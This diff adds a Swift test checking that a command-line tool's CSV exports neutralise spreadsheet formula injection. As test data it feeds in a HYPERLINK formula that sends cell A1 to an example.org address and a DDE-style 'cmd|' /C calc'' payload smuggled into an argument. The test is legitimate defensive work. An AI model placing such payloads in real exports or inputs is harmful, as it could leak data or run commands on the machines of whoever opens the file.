@@ -108,4 +108,53 @@ import Testing
         #expect(try DataSafetyTests.documentsAreWhole(cli.databasePath, corpus) == committed)
         #expect(try cli.run("check").status == 0)
     }
+
+    // MARK: 7 - no CSV cell runs as a formula
+
+    @Test func everyCSVNeutralisesCellsThatASpreadsheetRunsAsFormulas() throws {
+        let cli = try CLIRunner()
+        let formula = "=HYPERLINK(\"http://example.org/?\"&A1,\"open\")"
+        #expect(try cli.run("person", "add", formula).status == 0)
+        #expect(try cli.run("person", "alias", formula, "@SUM(1+1)").status == 0)
+        #expect(try cli.run(arguments: ["status", "set", formula, "detained", "--date", "2022-01-01", "--source=-2+3+cmd|' /C calc'!A0"]).status == 0)
+        #expect(try cli.run(arguments: ["person", "add", "+Plus Person"]).status == 0)
+
+        func cells(_ csv: String) -> [String] {
+            // Unquoted or quoted cells, split on commas outside quotes.
+            var cells: [String] = [], cell = "", quoted = false
+            for character in csv {
+                if character == "\"" { quoted.toggle(); cell.append(character) } else if (character == "," || character == "\r\n" || character == "\n") && !quoted {
+                    cells.append(cell); cell = ""
+                } else { cell.append(character) }
+            }
+            cells.append(cell)
+            return cells.map { $0.hasPrefix("\"") && $0.hasSuffix("\"") && $0.count >= 2 ? String($0.dropFirst().dropLast()).replacingOccurrences(of: "\"\"", with: "\"") : $0 }
+        }
+        func expectNeutral(_ csv: String, _ context: String) {
+            for cell in cells(csv) {
+                guard let first = cell.unicodeScalars.first else { continue }
+                let negativeNumber = cell.count > 1 && cell.hasPrefix("-") && Double(cell) != nil
+                #expect(!"=+-@\t\r".unicodeScalars.contains(first) || negativeNumber, "\(context): \(cell)")
+            }
+        }
+        let list = try cli.run("person", "list", "--format", "csv")
+        #expect(list.status == 0 && list.stdout.contains("'=HYPERLINK(") && list.stdout.contains("'+Plus Person"), "\(list.stdout)")
+        expectNeutral(list.stdout, "person list")
+        for command in [["status", "list", "--format", "csv"], ["log", "--format", "csv"]] {
+            let result = try cli.run(arguments: command)
+            #expect(result.status == 0, "\(command): \(result.stderr)")
+            expectNeutral(result.stdout, "\(command)")
+        }
+        let directory = cli.directory.appendingPathComponent("csv")
+        #expect(try cli.run("export", "--format", "csv", "-o", directory.path).status == 0)
+        var seen = Set<String>()
+        for file in try FileManager.default.contentsOfDirectory(atPath: directory.path) {
+            let text = try String(contentsOf: directory.appendingPathComponent(file), encoding: .utf8)
+            expectNeutral(text, file)
+            for cell in cells(text) where cell.hasPrefix("'") { seen.insert(cell) }
+        }
+        #expect(seen.contains("'" + formula) && seen.contains("'@SUM(1+1)") && seen.contains("'-2+3+cmd|' /C calc'!A0"), "\(seen)")
+        // The JSON export keeps the text exactly as recorded.
+        #expect(try cli.run("export", "--format", "json").stdout.contains("\"name\":\"=HYPERLINK("))
+    }
 }
